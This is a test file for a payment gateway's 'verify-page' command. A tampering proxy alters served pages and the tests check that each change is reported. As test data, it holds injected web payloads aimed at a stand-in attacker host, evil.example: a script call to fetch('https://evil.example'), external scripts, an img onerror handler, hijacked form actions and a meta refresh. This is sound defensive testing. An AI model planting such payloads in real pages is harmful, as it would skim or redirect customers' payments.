/** `verify-page` against a gateway whose answers are changed in transit: it names each change, and no others. */
import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { compareServed } from '#commands/verify-page.ts'
import { openDatabase } from '#storage/database.ts'
import { createInstallation } from '#storage/installation.ts'
import { openPageShop } from '#test/support/browser/page-shop.ts'
import { commandsHere } from '#test/support/command-here.ts'
import { masterKeyOf, startTestGateway, type TestGateway } from '#test/support/gateway.ts'
import { type DerivedKeys, openDerivedKeys } from '#vault/key-ring.ts'
import { toMasterKey } from '#vault/master-key.ts'

type Change = (path: string, text: string) => string

let gateway: TestGateway
let between: Server
let origin: string
let page: string
let keys: DerivedKeys
let change: Change
let dropPolicy = false
let answerWith: number | undefined

beforeAll(async () => {
  gateway = await startTestGateway()
  between = createServer(async (request, response) => {
    const path = request.url ?? '/'
    const asked = await fetch(`${gateway.url}${path}`, { redirect: 'manual' })
    const body = change(path, await asked.text())
    const policy = asked.headers.get('content-security-policy')
    if (policy && !dropPolicy) response.setHeader('content-security-policy', policy)
    const isPage = path.startsWith('/pay/') && !path.startsWith('/pay/assets/')
    response.writeHead((isPage && answerWith) || asked.status).end(body)
  })
  await new Promise<void>(resolve => between.listen(0, '127.0.0.1', resolve))
  origin = `http://127.0.0.1:${(between.address() as AddressInfo).port}`
  const shop = await openPageShop(gateway, {
    urls: { return: 'https://shop.example/a', cancel: 'https://shop.example/b' },
  })
  page = `${origin}${new URL((await shop.session()).href).pathname}`
  const database = openDatabase(gateway.databaseUrl, error => expect(error).toBeUndefined())
  const master = toMasterKey(masterKeyOf(gateway.databaseUrl), 'the test key')
  keys = await openDerivedKeys(master, createInstallation(database))
  await database.close()
})
beforeEach(() => {
  change = (_, text) => text
  dropPolicy = false
  answerWith = undefined
})
afterAll(async () => {
  await new Promise(resolve => between.close(resolve))
  await gateway.stop()
})

const verify = (): Promise<readonly string[]> => compareServed(origin, page, keys)
const inPage = (from: string | RegExp, to: string) => {
  change = (path, text) => (path.startsWith('/pay/assets/') ? text : text.replace(from, to))
}

test('it finds nothing on unchanged pages', async () => {
  expect(await verify()).toEqual([])
})

test('a script that was changed is found', async () => {
  change = (path, text) => (path.endsWith('.js') ? `${text}\nfetch('https://evil.example')` : text)
  expect((await verify()).join()).toMatch(/\.js was changed/)
})

test('a list that was changed with it has an invalid signature', async () => {
  change = (path, text) => (path.includes('inventory') ? text.replace('sha384-', 'sha384-A') : text)
  expect(await verify()).toEqual([
    'the list of files is not signed by this installation',
    'the list of files is not that of this version',
  ])
})

test.each(['<html>bad gateway</html>', 'null', '[]'])('%s in the place of the list is found', async text => {
  change = (path, served) => (path.includes('inventory') ? text : served)
  expect(await verify()).toEqual(['the address of the list of files answered 200 with something else'])
})

test.each([
  ['<script src="https://evil.example/x.js"></script>', 'a script that is not on the list'],
  ['<script>steal()</script>', 'a script that is not on the list'],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'a style that is not on the list'],
  ['<base href="https://evil.example/">', 'something that is not ours'],
  ['<iframe src="https://evil.example/"></iframe>', 'something that is not ours'],
  ['<img src=x onerror="steal()">', 'something that is not ours'],
  ['<form method="post" action="https://evil.example/">', 'something that is not ours'],
  ['<button formaction="//evil.example/">Pay</button>', 'something that is not ours'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'something that is not ours'],
])('a page with %s is found', async (added, found) => {
  inPage(/<body[^>]*>/, `$&${added}`)
  const differences = await verify()
  expect(differences).toHaveLength(1)
  expect(differences[0]).toContain(found)
})

test('a page without its policy is found', async () => {
  dropPolicy = true
  expect(await verify()).toEqual([
    "the policy of the page lacks default-src 'none'",
    "the policy of the page lacks script-src 'self'",
    "the policy of the page lacks connect-src 'self'",
  ])
})

test.each([303, 404, 410])('a page that answers %i is not taken for one that was checked', async status => {
  answerWith = status
  expect(await verify()).toEqual([
    `the page answered ${status}, so that nothing of it was checked: name one that waits for its customer`,
  ])
})

test.each([
  [['--page', 'foo'], 2, "option '--page <url>' argument 'foo' is invalid"],
  [['--origin', 'ftp://pay.example'], 2, "option '--origin <url>' argument 'ftp://pay.example' is invalid"],
  [['--page', 'http://127.0.0.1:9/pay/x'], 1, 'tollgate: http://127.0.0.1:9/pay/x cannot be read: '],
])('verify-page %j names the wrong address', async (words, code, said) => {
  const commands = commandsHere(gateway.databaseUrl, {
    TOLLGATE_MASTER_KEY: masterKeyOf(gateway.databaseUrl),
  })
  const refused = await commands.run('verify-page', '--origin', origin, ...words)
  commands.remove()
  expect(refused).toMatchObject({ code, stderr: expect.stringContaining(said) })
})

test('script-tag --json prints the address, hash and compressed size of the script', async () => {
  const commands = commandsHere(gateway.databaseUrl)
  const tag = await commands.json('script-tag')
  commands.remove()
  const served = await fetch(new URL(new URL(tag.src).pathname, gateway.url))
  const script = Buffer.from(await served.arrayBuffer())
  expect(tag.integrity).toBe(`sha384-${createHash('sha384').update(script).digest('base64')}`)
  expect(tag.compressedBytes).toBeGreaterThan(100)
  expect(tag.compressedBytes).toBeLessThan(script.length)
})
